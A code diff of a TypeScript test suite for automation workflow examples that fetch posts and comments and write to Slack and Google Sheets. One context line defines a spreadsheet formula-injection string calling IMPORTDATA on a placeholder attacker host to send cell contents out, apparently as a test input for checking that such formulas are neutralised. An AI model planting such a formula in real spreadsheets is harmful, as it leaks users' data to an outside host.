@@ -41,6 +41,9 @@ const NEED_N8N_2 = [
 /** A title that Google Sheets runs if it takes it for what a person typed. */
 const FORMULA = '=IMPORTDATA("https://attacker.example/?"&A1)';
 
+/** What a user enters of the address of a post. */
+export const SITE = 'https://photos.example.com/p/';
+
 const VIDEO_ROW = ['keyword', 'id', 'title', 'author', 'createdAt', 'likes', 'image'];
 
 const TRIGGER_TYPES = ['n8n-nodes-base.manualTrigger', 'n8n-nodes-base.scheduleTrigger'];
@@ -160,19 +163,13 @@ export function testExamples(world: RegularMode): void {
 			assert.equal(world.emulator.summary().charged, 0.03);
 		});
 
-		for (const [name, operation, beside, input, cap] of [
-			['article-comments-and-replies', 'fetch_comment_replies', ['url'], 'content_id', 0.17],
-			[
-				'note-comments-and-replies',
-				'get_note_sub_comments',
-				['keyword', 'noteId', 'note'],
-				'comment_id',
-				0.445,
-			],
+		for (const [name, operation, field, input, cap] of [
+			['article-comments-and-replies', 'fetch_comment_replies', 'contentId', 'content_id', 0.17],
+			['note-comments-and-replies', 'get_note_sub_comments', 'commentId', 'comment_id', 0.445],
 		] as const) {
 			test(name, async () => {
 				const execution = await succeeded(run(example(name)));
-				const answered = execution.json('With replies').map(({ commentId }) => commentId);
+				const answered = execution.json('With replies').map((comment) => comment[field]);
 				assert.ok(answered.length > 1);
 				const calls = bought().filter((call) => call.operation === operation);
 				assert.deepEqual(
@@ -181,9 +178,14 @@ export function testExamples(world: RegularMode): void {
 				);
 				const replies = execution.json('Replies');
 				assert.ok(replies.length > answered.length);
-				const added = [...beside, 'commentId', 'comment', 'replies'];
-				const columns = [...new Set([...added, ...SIMPLIFIED_FIELDS])];
-				for (const reply of replies) assert.deepEqual(Object.keys(reply), columns);
+				for (const reply of replies) {
+					assert.equal(reply.parentId, reply[field]);
+					assert.equal(typeof reply.comment, 'string');
+					assert.deepEqual(
+						SIMPLIFIED_FIELDS.filter((column) => !(column in reply)),
+						[],
+					);
+				}
 				assert.ok(world.emulator.summary().charged <= cap);
 			});
 		}
@@ -222,7 +224,11 @@ export function testExamples(world: RegularMode): void {
 		test('new-posts-to-slack: Slack refuses messages, and none is lost', async () => {
 			const { rest, outside, emulator } = world;
 			const change = { waitBetweenTries: 100 };
-			const impatient = changed(example('new-posts-to-slack'), 'Post to Slack', change);
+			const assignments = [{ id: '1', name: 'site', value: SITE, type: 'string' }];
+			const withSite = changed(example('new-posts-to-slack'), 'Site', {
+				parameters: { assignments: { assignments } },
+			});
+			const impatient = changed(withSite, 'Post to Slack', change);
 			const nodes = impatient.nodes.map((node) =>
 				node.type.endsWith('Trigger')
 					? dataAccessTrigger(node.name, world.credentialId, node.parameters)
@@ -248,9 +254,14 @@ export function testExamples(world: RegularMode): void {
 			assert.equal(texts.length, 12);
 			assert.equal(new Set(texts).size, 12);
 			assert.ok(outside.messages.every(({ channel }) => channel === '#research'));
-			for (const text of texts) assert.doesNotMatch(text, /undefined|null|[<>]|&(?!amp|lt|gt)/);
+			for (const text of texts) {
+				assert.doesNotMatch(text, /undefined|null|[<>]|&(?!amp|lt|gt)/);
+				assert.match(
+					text,
+					/^New post by user\..*\nhttps:\/\/photos\.example\.com\/p\/[\da-f]{11}\/$/s,
+				);
+			}
 			assert.match(texts.join(), /&lt;/);
-			for (const text of texts) assert.match(text, /\nhttps:\/\/photos\.example\.com\/p\/\w+$/);
 		});
 
 		test('agent-research', async () => {
@@ -428,37 +439,57 @@ export function testExamples(world: RegularMode): void {
 			assert.equal(outside.sheets.rows('Questions')[1]!.next, next);
 		});
 
-		test('long-lists-night-by-night', async () => {
-			const { outside, emulator } = world;
-			const { sheets } = outside;
-			// 14, 26 and 17 pages, at 20 pages a night; a sheet holds the last ID as a number.
-			const sizes = new Map<string | number, number>([
-				['a-size-700', 700],
-				['b-size-1300', 1300],
-				[25025320, 830],
-			]);
-			emulator.setList('fetch_user_posts_v2', '25025320', { size: 830 });
-			fill('Users', 'user', [...sizes.keys()]);
-			const calls: number[] = [];
-			for (let night = 1; night <= 4; night++) {
-				const before = emulator.ledger.length;
-				await succeeded(run(example('long-lists-night-by-night'), 'Every night at two'));
-				calls.push(emulator.ledger.length - before);
-			}
-			assert.deepEqual(calls, [20, 20, 17, 0]);
-			assert.equal(new Set(pages()).size, 57);
-			assert.equal(pages().length, 57);
-			const posts = sheets.rows('Posts');
-			for (const [user, size] of sizes) {
-				const ids = posts.filter((post) => post.user === String(user)).map(({ id }) => id);
-				assert.equal(ids.length, size);
-				assert.equal(new Set(ids).size, size);
-			}
-			assert.deepEqual(
-				sheets.rows('Users'),
-				[...sizes.keys()].map((user) => ({ user, next: 'ended', reason: 'end' })),
+		test('week-summed-up-to-slack', async () => {
+			const { emulator, model, outside } = world;
+			emulator.configure({ today: Date.now() / 1000, size: 200 });
+			const workflow = await inProduction(example('week-summed-up-to-slack'));
+			const monday = async (...summary: string[]) => {
+				model.plays(...summary);
+				const calls = await callsOf(workflow);
+				return { calls: calls.length, text: outside.messages.at(-1)!.text };
+			};
+			const summary = '小鹿 saw <!channel> & foxes on 2026-11-20: https://notes.example/item/1.';
+			const first = await monday(summary);
+			assert.equal(first.calls, 9);
+			assert.equal(outside.messages.length, 1);
+			assert.match(first.text, /^\*The week in red fox, snow leopard, barn owl\*\n\n/);
+			assert.ok(
+				first.text.includes(
+					summary.replace('&', '&amp;').replace('<!channel>', '&lt;!channel&gt;'),
+				),
 			);
-			assert.deepEqual(sheets.formulas(), []);
+			const [, count] = /\n\n(\d+) new in 9 calls, which cost \$0\.135\.$/.exec(first.text) ?? [];
+			assert.ok(Number(count) > 30);
+			const asked = model.asked().split('\n');
+			assert.equal(asked.length, 30);
+			const isOfTheWeek = (line: string) => {
+				const [, day] = / \| (\d{4}-\d\d-\d\d) \| /.exec(line)!;
+				return Date.parse(day!) > Date.now() - 9 * 86_400_000;
+			};
+			assert.ok(asked.every(isOfTheWeek));
+			const likes = asked.map((line) => Number(/^\d+\. (\d+) likes/.exec(line)?.[1] ?? 0));
+			assert.deepEqual(
+				likes,
+				likes.toSorted((a, b) => b - a),
+			);
+			const top = first.text.split('\n').filter((line) => /^\d\. .* likes, /.test(line));
+			assert.deepEqual(
+				top.map((line) => Number(/^\d\. ([\d,]+)/.exec(line)![1]!.replaceAll(',', ''))),
+				likes.slice(0, 5),
+			);
+
+			emulator.addFault({ kind: 'refused', httpStatus: 400, match: { key: 'barn owl' } });
+			const second = await monday('Not asked.');
+			assert.match(
+				second.text,
+				/\*\n\nNothing new\.\n\n:warning: barn owl: The gateway refused [^\n]*\.\n\n0 new in 7 calls, which cost \$0\.09\.$/,
+			);
+
+			emulator.changeList('search_images', 'red fox', { add: 40, at: 0 });
+			const third = await monday();
+			assert.match(third.text, /\*\n\nThe model gave no answer, .*\n\n\*Most liked\*\n1\. /);
+			const byHand = await succeeded(run(example('week-summed-up-to-slack')));
+			assert.ok(byHand.json('Most liked first').length > 30);
 		});
 	});
 }
